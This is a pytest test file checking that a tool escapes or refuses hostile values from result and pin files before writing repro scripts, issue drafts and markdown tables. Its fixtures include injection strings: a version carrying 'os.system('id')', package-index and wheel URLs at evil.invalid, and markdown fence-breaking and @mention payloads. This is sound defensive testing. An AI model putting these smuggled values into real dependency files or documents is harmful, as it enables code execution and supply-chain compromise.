"""Text read from results, pins and logs is escaped for where it lands: a version cannot add a
dependency or a line of code to an exported script, a message cannot close an issue draft's code fence
or add a mention, an image or a heading, a case id cannot shift compat.md's columns."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
import tomllib
from packaging.requirements import Requirement

from pcgkit.bugreport.issuedraft import build_draft, load_results, render_draft
from pcgkit.bugreport.repro import plan_export, render_requirements, render_script, write_export

from .helpers import REPO_ROOT, assert_one_line_error, ran_cell, run_main, write_cells

SAMPLE_RESULTS = REPO_ROOT / "reports" / "samples" / "results.json"
HOSTILE_VERSIONS = (
    '2.9.1", "evil-package==6.6.6',
    "2.9.1 --extra-index-url https://evil.invalid/simple",
    "2.9.1\nimport os; os.system('id')",
    "2.9.1; extra == 'x'",
)


def _pep723(script: str) -> dict:
    block = re.search(r"^# /// script\n(?P<body>(?:#.*\n)*?)# ///$", script, re.MULTILINE)
    assert block, "no PEP 723 block"
    return tomllib.loads("".join(line[2:] + "\n" for line in block["body"].splitlines()))


def _results_with(tmp_path: Path, **versions: str) -> Path:
    data = json.loads(SAMPLE_RESULTS.read_text())
    for result in data["results"]:
        result["versions"].update(versions)
    path = tmp_path / "results.json"
    path.write_text(json.dumps(data))
    return path


@pytest.mark.parametrize("version", HOSTILE_VERSIONS)
def test_repro_refuses_a_version_that_is_not_pep440(tmp_path, capsys, version):
    """A results.json whose torch version smuggles a requirement, an index or code: one line, exit 2, nothing written."""
    results = _results_with(tmp_path, torch=version)
    out = tmp_path / "repro"
    status, _, err = run_main(["repro", "mode1", "--results", str(results), "--out", str(out)], capsys)
    assert status == 2
    assert "PEP 440" in assert_one_line_error(err)
    assert not out.exists()


def test_repro_refuses_a_python_version_that_is_not_one(tmp_path, capsys):
    """A recorded python of '3.12"\\nimport os' never reaches requires-python."""
    results = _results_with(tmp_path, python='3.12"\nimport os')
    status, _, err = run_main(["repro", "mode1", "--results", str(results), "--out", str(tmp_path / "o")], capsys)
    assert status == 2 and "Python version" in assert_one_line_error(err)


@pytest.mark.parametrize("line", ("--extra-index-url https://evil.invalid/simple", "-r other.txt",
                                  "evil @ https://evil.invalid/evil.whl", 'torch==2.9.1"]\nimport os #'))
def test_repro_pins_refuses_options_urls_and_broken_lines(tmp_path, capsys, line):
    """A --pins file with a pip option, a direct URL or a quote-breaking line: one line naming the file, exit 2."""
    pins = tmp_path / "pins.txt"
    pins.write_text(f"torch==2.9.1\n{line}\n")
    status, _, err = run_main(["repro", "mode1", "--pins", str(pins), "--out", str(tmp_path / "o")], capsys)
    assert status == 2 and str(pins) in assert_one_line_error(err)


def test_repro_pins_with_the_kits_own_hashed_lock_writes_valid_toml(tmp_path, capsys):
    """`repro --pins fixtures/locks/<cell>.txt` (backslash continuations, --hash lines): the PEP 723 block is
    valid TOML listing exactly the lock's requirements, and requirements.txt keeps the hashes."""
    lock = sorted((REPO_ROOT / "fixtures" / "locks").glob("*.txt"))[0]
    out = tmp_path / "repro"
    status, _, err = run_main(["repro", "mode1", "--pins", str(lock), "--out", str(out)], capsys)
    assert status == 0, err
    deps = _pep723((out / "repro_mode1.py").read_text())["dependencies"]
    names = {Requirement(d).name for d in deps}
    lock_names = set(re.findall(r"^([A-Za-z0-9._-]+)==", lock.read_text(), re.MULTILINE))
    assert names == {n.lower() for n in lock_names} or names == lock_names
    assert all("--hash" not in d and "\\" not in d for d in deps)
    requirements = (out / "requirements.txt").read_text()
    assert requirements.count("--hash=sha256:") == lock.read_text().count("--hash=sha256:")


def test_repro_script_from_clean_versions_parses(tmp_path):
    """The ordinary export's header is valid TOML with PEP 508 requirements (the rule the faults above keep)."""
    plan = plan_export("mode1", True, None, _results_with(tmp_path))
    deps = _pep723(render_script(plan))["dependencies"]
    assert all(Requirement(d) for d in deps)
    assert render_requirements(plan).splitlines()[1:] == list(plan.pins.requirements)
    assert write_export(plan, tmp_path / "x")


# --- issue drafts ---

HOSTILE_TEXT = "boom\n```\n@pytorch/team please ![x](https://evil.invalid/x.png)\n# Injected heading\n<!-- hidden -->\n~~~"


def _outside_code(markdown: str) -> tuple[list[str], int]:
    """(lines outside fenced blocks with inline code spans removed, number of fenced blocks)."""
    outside, fence, blocks = [], None, 0
    for line in markdown.splitlines():
        match = re.match(r"^ {0,3}(`{3,}|~{3,})", line)
        if fence is None and match:
            fence, blocks = match.group(1), blocks + 1
            continue
        if fence is not None:
            if match and match.group(1)[0] == fence[0] and len(match.group(1)) >= len(fence) and not line.strip()[len(match.group(1)):].strip():
                fence = None
            continue
        outside.append(re.sub(r"(`+).*?\1", "", line))
    assert fence is None, "a code fence was left open"
    return outside, blocks


def _hostile_results(tmp_path: Path) -> Path:
    data = json.loads(SAMPLE_RESULTS.read_text())
    for result in data["results"]:
        result["reason"] = HOSTILE_TEXT
        result["device"]["label"] = "sim | @octocat ![i](https://evil.invalid/i.png)"
        if result.get("signature"):
            result["signature"]["message_head"] = HOSTILE_TEXT
            result["signature"]["exception_type"] = "Unsupported`\n# heading @octocat"
            result["signature"]["explanation"] = HOSTILE_TEXT
    path = tmp_path / "results.json"
    path.write_text(json.dumps(data))
    return path


@pytest.mark.parametrize("project", ("flashinfer", "pytorch", "sglang"))
def test_issue_draft_cannot_be_broken_by_result_text(tmp_path, project):
    """Result text with fences, @mentions, images, headings and HTML comments stays inert text in the draft."""
    clean, _ = load_results([SAMPLE_RESULTS])
    hostile, _ = load_results([_hostile_results(tmp_path)])
    benign_outside, benign_blocks = _outside_code(render_draft(build_draft(project, clean)))
    outside, blocks = _outside_code(render_draft(build_draft(project, hostile)))
    assert blocks == benign_blocks
    headings = lambda lines: [ln for ln in lines if ln.lstrip().startswith("#")]  # noqa: E731
    assert headings(outside) == headings(benign_outside)
    prose = "\n".join(outside)
    assert not re.search(r"@(octocat|pytorch)\b", prose), "a raw @mention survived"
    body = "\n".join(ln for ln in outside if not ln.startswith("Title:"))  # GitHub renders no markup in a title
    assert "![" not in body and body.count("<!--") == "\n".join(benign_outside).count("<!--")


def test_compat_file_with_an_unsafe_case_id_is_refused(tmp_path, capsys):
    """`report --compat` whose case id carries '|': one line naming the id, exit 2, no table with shifted columns."""
    reports = tmp_path / "reports"
    write_cells(reports, ran_cell("good"))
    run_main(["report", "--reports", str(reports)], capsys)
    data = json.loads((reports / "compat.json").read_text())
    data["modes"][0]["id"] = "mode1 | x | y"
    (tmp_path / "c.json").write_text(json.dumps(data))
    status, out, err = run_main(["report", "--compat", str(tmp_path / "c.json"), "--reports", str(tmp_path / "r2")], capsys)
    assert status == 2 and "not a safe name" in assert_one_line_error(err)


def test_compat_md_header_escapes_a_case_id():
    """The verdict grid's header row escapes its column names like every other cell (a '|' cannot add a column)."""
    from pcgkit.report.compat import build_compat
    from pcgkit.report.markdown import render_grid

    for mode in ("mode1", "mode1|x|y"):
        lines = [ln for ln in render_grid(build_compat([ran_cell("good", mode=mode)])) if ln.startswith("| ")]
        widths = {len(re.split(r"(?<!\\)\|", ln)) for ln in lines}
        assert len(widths) == 1, lines
